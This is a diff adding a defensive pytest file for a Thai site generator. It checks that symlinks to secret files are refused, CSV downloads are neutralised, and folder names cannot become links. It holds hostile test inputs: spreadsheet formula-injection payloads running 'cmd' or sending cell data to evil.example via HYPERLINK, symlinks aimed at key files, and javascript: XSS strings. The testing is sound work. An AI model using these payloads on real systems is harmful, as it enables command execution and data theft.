@@ -1,0 +1,339 @@
+"""Hostile and broken input through the real command line (issue 19).
+
+Every case of CASES is a copy of the small organization changed the way an
+attacker or a hurried clerk would; `python -m generator build` must refuse it
+with its message (Thai, then English, naming the file), exit 2, print no
+traceback, and leave the previous site byte for byte as it was. The other tests
+cover what builds but must be safe: spreadsheet downloads, folder names in
+`build-all` and the portal's links. The README's error table lists every message.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import re
+import shutil
+import subprocess
+import sys
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from test_broken_input import SMALL, cli, tree_digest
+
+REPO = Path(__file__).resolve().parent.parent
+ORG = "organization.yml"
+PHOTO = "assets/executives/chief-executive.svg"
+SECRET = "prongsai-secret-do-not-publish"
+
+
+def secret_file(tmp: Path) -> Path:
+    """A file outside the content folder, standing for /etc/passwd or a CI runner's key."""
+    path = tmp / "outside" / "id_rsa"
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(f"{SECRET}\n", encoding="utf-8")
+    return path
+
+
+def link(rel: str, target: Callable[[Path, Path], Path]) -> Callable[[Path], None]:
+    """Replace `rel` in the content by a symbolic link to target(content, tmp)."""
+
+    def apply(content: Path) -> None:
+        path = content / rel
+        if path.is_dir() and not path.is_symlink():
+            shutil.rmtree(path)
+        elif path.exists() or path.is_symlink():
+            path.unlink()
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.symlink_to(target(content, content.parent))
+
+    return apply
+
+
+def to_secret(content: Path, tmp: Path) -> Path:
+    return secret_file(tmp)
+
+
+def to_outside_folder(content: Path, tmp: Path) -> Path:
+    return secret_file(tmp).parent
+
+
+@dataclass
+class Case:
+    id: str
+    mutate: Callable[[Path], None]
+    where: str  # the first line of the entry: file (content-relative, "" for the folder itself)
+    th: str  # part of the Thai message
+    en: str  # part of the English message
+    args: tuple[str, ...] = ()  # more arguments to `build`
+
+
+CASES = [
+    Case("symlink-asset-file", link(PHOTO, to_secret), f"content/{PHOTO}",
+         "เป็นทางลัด (symbolic link) ที่ชี้ออกไปนอกโฟลเดอร์ content", "symbolic link that points outside content"),
+    Case("symlink-assets-folder", link("assets", to_outside_folder), "content/assets",
+         "เป็นทางลัด (symbolic link) ที่ชี้ออกไปนอกโฟลเดอร์ content", "symbolic link that points outside content"),
+    Case("symlink-page", link("pages/secret.md", to_secret), "content/pages/secret.md",
+         "เป็นทางลัด (symbolic link)", "symbolic link that points outside content"),
+    Case("symlink-dataset", link("years/2568/data/complaints.csv", to_secret), "content/years/2568/data/complaints.csv",
+         "เป็นทางลัด (symbolic link)", "symbolic link that points outside content"),
+    Case("symlink-yaml-file", link(ORG, to_secret), f"content/{ORG}",
+         "เป็นทางลัด (symbolic link)", "symbolic link that points outside content"),
+    Case("symlink-broken", link("assets/logo.svg", lambda c, t: t / "nowhere.svg"), "content/assets/logo.svg",
+         "หรือชี้ไปยังสิ่งที่ไม่มีอยู่", "(or to nothing)"),
+]
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    work = tmp_path_factory.mktemp("hardening")
+    result = cli("build", "--content", SMALL, "--site-dir", work / "site", cwd=work)
+    assert result.returncode == 0, result.stderr
+    return work / "site"
+
+
+def assert_refused(result: subprocess.CompletedProcess[str], where: str, th: str, en: str) -> None:
+    out = result.stdout + result.stderr
+    assert result.returncode == 2, out
+    assert "Traceback" not in out and SECRET not in out, out
+    lines = result.stderr.splitlines()
+    assert where in lines, f"expected a line {where!r} in:\n{result.stderr}"
+    at = lines.index(where)
+    assert th in lines[at + 1] and en in lines[at + 2], result.stderr
+
+
+def assert_site_kept(site: Path, before: str, neighbours: list[str]) -> None:
+    assert tree_digest(site) == before, "the previous site changed"
+    assert sorted(p.name for p in site.parent.iterdir()) == neighbours, "the build left files beside the site"
+    assert not any(SECRET.encode() in p.read_bytes() for p in site.rglob("*") if p.is_file())
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_hostile_content_is_refused_and_the_site_kept(case: Case, built: Path, tmp_path: Path) -> None:
+    content = tmp_path / "content"
+    shutil.copytree(SMALL, content)
+    case.mutate(content)
+    before, neighbours = tree_digest(built), sorted(p.name for p in built.parent.iterdir())
+    result = cli("build", "--content", content, "--site-dir", built, *case.args, cwd=tmp_path)
+    assert_refused(result, case.where, case.th, case.en)
+    assert_site_kept(built, before, neighbours)
+
+
+def test_a_link_inside_the_content_folder_is_fine(tmp_path: Path) -> None:
+    content = tmp_path / "content"
+    shutil.copytree(SMALL, content)
+    (content / "assets" / "executives" / "same.svg").symlink_to("chief-executive.svg")
+    result = cli("build", "--content", content, "--site-dir", tmp_path / "site", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert (tmp_path / "site" / "assets" / "executives" / "same.svg").read_bytes() == (content / PHOTO).read_bytes()
+
+
+def test_a_content_folder_that_is_a_link_loop(tmp_path: Path) -> None:
+    (tmp_path / "a").symlink_to("b")
+    (tmp_path / "b").symlink_to("a")
+    result = cli("build", "--content", "a", "--site-dir", tmp_path / "site", cwd=tmp_path)
+    assert_refused(result, "a", "ไม่พบโฟลเดอร์ข้อมูล a หรือเป็นทางลัดที่วนกลับมาที่ตัวเอง",
+                   "The content folder a does not exist or is a symbolic link loop")
+    assert not (tmp_path / "site").exists()
+
+
+def test_messages_name_the_folder_given_to_content(tmp_path: Path) -> None:
+    content = tmp_path / "ข้อมูล-อบต"
+    shutil.copytree(SMALL, content)
+    link(PHOTO, to_secret)(content)
+    result = cli("build", "--content", content, "--site-dir", tmp_path / "site", cwd=tmp_path)
+    assert_refused(result, f"ข้อมูล-อบต/{PHOTO}", "นอกโฟลเดอร์ ข้อมูล-อบต", "outside ข้อมูล-อบต")
+
+
+def test_a_site_folder_that_cannot_be_written(built: Path, tmp_path: Path) -> None:
+    # /proc refuses new folders even to root, who ignores permission bits.
+    result = cli("build", "--content", SMALL, "--site-dir", "/proc/prongsai-site", cwd=tmp_path)
+    assert_refused(result, "/proc/prongsai-site", "เขียนโฟลเดอร์เว็บไซต์ /proc/prongsai-site ไม่ได้",
+                   "Cannot write the site folder /proc/prongsai-site")
+
+
+def test_two_builds_of_one_site_at_once(built: Path, tmp_path: Path) -> None:
+    import fcntl
+
+    before, neighbours = tree_digest(built), sorted(p.name for p in built.parent.iterdir())
+    lock = os.open(built.parent / f".{built.name}.lock", os.O_RDWR)
+    try:
+        fcntl.flock(lock, fcntl.LOCK_EX)  # as a build that is running holds it
+        result = cli("build", "--content", SMALL, "--site-dir", built, cwd=tmp_path)
+    finally:
+        os.close(lock)
+    assert_refused(result, str(built), "มีการสร้างเว็บไซต์นี้", "Another build of this site")
+    assert_site_kept(built, before, neighbours)
+
+
+def test_staging_folders_of_a_killed_build_are_removed(tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    for stale in (".site.new-abc123", ".site.old-def456"):
+        (tmp_path / stale / "assets").mkdir(parents=True)
+    (tmp_path / ".other.new-keep").mkdir()
+    result = cli("build", "--content", SMALL, "--site-dir", site, cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == [
+        ".other.new-keep", ".site.build", ".site.lock"]
+
+
+# Spreadsheet downloads ---------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"คลิก")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def evaluated(cell: str) -> bool:
+    """Whether Excel, LibreOffice or Google Sheets would evaluate this CSV cell."""
+    if re.fullmatch(r"[-+]?[0-9][0-9,]*(\.[0-9]+)?", cell):
+        return False  # a number
+    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+
+
+def read_back(site: Path) -> dict[str, list[list[str]]]:
+    return {str(p.relative_to(site)): list(csv.reader(io.StringIO(p.read_bytes().decode("utf-8-sig"), newline="")))
+            for p in sorted(site.rglob("*.csv"))}
+
+
+def write_xlsx(path: Path, rows: list[list[object]], formulas: dict[str, tuple[str, str | None]]) -> None:
+    """An .xlsx of `rows`; `formulas` maps a cell ("A2") to (formula, cached text) as Excel saves
+    them, or to (None, text) for a text cell ('=… typed with an apostrophe)."""
+    from openpyxl import Workbook
+
+    book = Workbook()
+    for row in rows:
+        book.active.append(row)
+    book.save(path)
+    with zipfile.ZipFile(path) as zin:
+        parts = {n: zin.read(n) for n in zin.namelist()}
+    sheet = parts["xl/worksheets/sheet1.xml"].decode()
+    for ref, (formula, cached) in formulas.items():
+        cell = (f'<c r="{ref}" t="str"><f>{formula}</f><v>{cached}</v></c>' if formula
+                else f'<c r="{ref}" t="inlineStr"><is><t>{cached}</t></is></c>')
+        sheet, n = re.subn(rf'<c r="{ref}"[^>]*>.*?</c>', cell, sheet, count=1)
+        assert n == 1, ref
+    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
+        for name, data in parts.items():
+            zout.writestr(name, data)
+
+
+def test_downloads_hold_no_cell_a_spreadsheet_would_evaluate(tmp_path: Path) -> None:
+    from xml.sax.saxutils import escape
+
+    content = tmp_path / "content"
+    shutil.copytree(SMALL, content)
+    data = content / "years" / "2568" / "data"
+    (data / "complaints.yml").unlink()
+    lines = ["ช่วงเวลา,จำนวนเรื่องที่รับ,ดำเนินการแล้วเสร็จ,อยู่ระหว่างดำเนินการ"]
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerows([[f, 1, 1, 0] for f in FORMULAS])
+    (data / "complaints.csv").write_text(lines[0] + "\n" + out.getvalue(), encoding="utf-8")
+    # the contract list: a formula with its cached value, and a text cell that starts with "="
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(data / "contracts.xlsx").worksheets[0]
+    rows = [[c.value for c in r] for r in sheet.iter_rows()]
+    write_xlsx(data / "contracts.xlsx", rows,
+               {"B2": ('HYPERLINK("https://evil.example/","x")', escape('=HYPERLINK("https://evil.example/","x")')),
+                "J2": (None, escape("=cmd|' /C calc'!A0"))})
+    result = cli("build", "--content", content, "--site-dir", tmp_path / "site", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+
+    downloads = read_back(tmp_path / "site")
+    assert {"2568/data/complaints.csv", "2568/data/contracts.csv"} <= downloads.keys(), downloads.keys()
+    for name, table in downloads.items():
+        for row in table:
+            assert not [c for c in row if evaluated(c)], (name, row)
+    cells = [c for table in downloads.values() for row in table for c in row]
+    for formula in FORMULAS:  # kept as written (the reader trims spaces), behind the apostrophe
+        assert "'" + formula.strip() in cells, formula
+    assert "'=HYPERLINK(\"https://evil.example/\",\"x\")" in cells  # the cached value, neutralized
+    assert "'=cmd|' /C calc'!A0" in cells
+    contracts = downloads["2568/data/contracts.csv"]
+    assert any(re.fullmatch(r"[0-9,]+\.[0-9]{2}", c) or re.fullmatch(r"[๐-๙,]+\.[๐-๙]{2}", c)
+               for c in contracts[1]), "numbers stay numbers"
+
+
+def test_every_download_of_the_example_is_safe(example_site: Path) -> None:
+    downloads = read_back(example_site)
+    assert len(downloads) >= 10
+    for name, table in downloads.items():
+        for row in table:
+            assert not [c for c in row if evaluated(c)], (name, row)
+
+
+# Folder names in build-all and the portal --------------------------------------------
+
+
+class Links(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.hrefs: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.hrefs += [v for k, v in attrs if k == "href" and v]
+
+
+def test_folder_names_are_data(tmp_path: Path) -> None:
+    orgs = tmp_path / "orgs"
+    orgs.mkdir()
+    shutil.copytree(SMALL, orgs / "alpha")
+    bad = ["javascript:alert(1)", "index.html", "ALPHA", "ａｌｐｈａ", "อบต-บึงตะวัน", "Bueng Tawan"]
+    for name in bad:
+        shutil.copytree(SMALL, orgs / name)
+    (orgs / "linked").symlink_to(orgs / "alpha")
+    result = subprocess.run(
+        [sys.executable, "-m", "generator", "build-all", "--orgs", str(orgs), "--out", str(tmp_path / "out"),
+         "--jobs", "1"],
+        cwd=tmp_path, capture_output=True, text=True, timeout=120,
+        env={"PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"},
+    )
+    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
+    err = result.stderr
+    assert "ข้ามโฟลเดอร์ 'javascript:alert(1)' เพราะชื่อโฟลเดอร์ใช้เป็นที่อยู่เว็บไม่ได้" in err
+    assert "Skipped 'index.html': a folder name becomes a web address" in err
+    assert "ข้ามโฟลเดอร์ 'ALPHA' เพราะชื่อซ้ำกับโฟลเดอร์ alpha" in err
+    assert "Skipped 'ａｌｐｈａ': it is a twin of the folder alpha" in err
+    assert "(closest valid name: -)" in err  # Thai letters and spaces have no ASCII twin
+    assert "Skipped linked: it is a symbolic link" in err
+    out = tmp_path / "out"
+    assert sorted(p.name for p in out.iterdir()) == ["_manifests", "_portal", "alpha", "index.html"]
+    parser = Links()
+    parser.feed((out / "index.html").read_text(encoding="utf-8"))
+    assert [h for h in parser.hrefs if not h.startswith("#")] == ["alpha/index.html"]
+
+
+def test_a_manifest_entry_is_never_a_live_link(tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    (out / "_manifests").mkdir(parents=True)
+    entry = {"slug": "javascript:alert(document.domain)//", "ok": True, "name": "x"}
+    (out / "_manifests" / "shard-1-of-1.json").write_text(f"[{__import__('json').dumps(entry)}]", encoding="utf-8")
+    from generator.portal import write_portal
+
+    parser = Links()
+    parser.feed(write_portal(out).read_text(encoding="utf-8"))
+    assert not [h for h in parser.hrefs if not h.startswith("#")]
+
+
+MESSAGES = ("symlink_outside", "content_folder_missing", "site_not_writable", "build_running",
+            "org_folder_name", "org_folder_twin", "org_folder_link", "internal_error")
+
+
+def test_readme_documents_every_message() -> None:
+    from generator.catalog import read_program_yaml
+
+    catalog = read_program_yaml(REPO / "generator" / "catalog" / "messages.yml")
+    readme = (REPO / "README.md").read_text(encoding="utf-8")
+    section = readme.split("## ข้อความแจ้งข้อผิดพลาด", 1)[1].split("\n## ", 1)[0]
+    for key in MESSAGES:
+        for lang in ("th", "en"):
+            # the longest fixed part of the wording (between the {filled-in} values) is in the table
+            fixed = max(re.split(r"\{[^}]*\}", catalog[key][lang]), key=len).strip()
+            assert fixed in section, f"README lacks {key} ({lang}): {fixed!r}"
